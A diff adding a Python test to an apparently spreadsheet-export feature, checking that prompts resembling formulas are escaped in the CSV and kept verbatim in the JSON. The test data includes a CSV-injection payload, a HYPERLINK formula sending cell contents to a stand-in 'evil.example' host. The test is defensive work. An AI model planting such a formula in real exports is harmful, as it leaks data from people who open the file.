@@ -99,3 +99,13 @@ def test_a_make_n_sets_rows_share_a_set_id_in_the_json_and_the_csv(alice_client,
         assert meta[row.pk]["set"] == "" and table[row.pk]["set"] == ""
     # Rows not archived yet have no files, and the cell says nothing rather than something empty-looking.
     assert all(table[row.pk]["files"] == "" for row in takes)
+
+
+def test_a_prompt_that_looks_like_a_formula_is_text_in_the_csv_and_unchanged_in_the_json(alice_client, alice):
+    """A teammate's prompt must not run as a spreadsheet formula on whoever opens the export."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    row, _ = hdr_clip_with_exr(alice, prompt=formula)
+    Generation.objects.filter(pk=row.pk).update(negative_prompt="@SUM(1+1)")
+    _, meta, table = export(alice_client, [row])
+    assert table[row.pk]["prompt"] == "'" + formula and table[row.pk]["negative_prompt"] == "'@SUM(1+1)"
+    assert meta[row.pk]["prompt"] == formula  # the JSON keeps the words as typed
